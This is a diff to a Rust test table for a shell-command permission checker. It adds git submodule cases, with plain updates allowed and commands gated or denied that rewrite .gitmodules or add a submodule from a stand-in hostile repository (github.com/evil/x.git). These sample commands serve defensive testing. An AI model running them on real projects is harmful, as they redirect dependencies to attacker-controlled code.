@@ -579,4 +579,35 @@ pub const CLASS_CASES: &[(&str, &str, &str, &str)] = &[
         "repository-not-allowed",
     ),
     ("gh-pr-list", "gh pr list", "allow", "no-match"),
+    // The fixture's `.gitmodules` names `../lib.git` and github.com/Acme/tools: allowed.
+    (
+        "submodule-update-allowed",
+        "git submodule update --init --recursive",
+        "allow",
+        "no-match",
+    ),
+    (
+        "submodule-sync-allowed",
+        "git submodule sync",
+        "allow",
+        "no-match",
+    ),
+    (
+        "submodule-gitmodules-appended",
+        "echo '[submodule \"x\"] url = https://github.com/evil/x.git' >> .gitmodules; git submodule init",
+        "ask",
+        "unanalyzable-command",
+    ),
+    (
+        "submodule-config-then-update",
+        "git config -f .gitmodules submodule.lib.url https://github.com/evil/x.git && git submodule sync",
+        "ask",
+        "unanalyzable-command",
+    ),
+    (
+        "submodule-add-not-allowed",
+        "git submodule add https://github.com/evil/x.git vendor/x",
+        "deny",
+        "repository-not-allowed",
+    ),
 ];
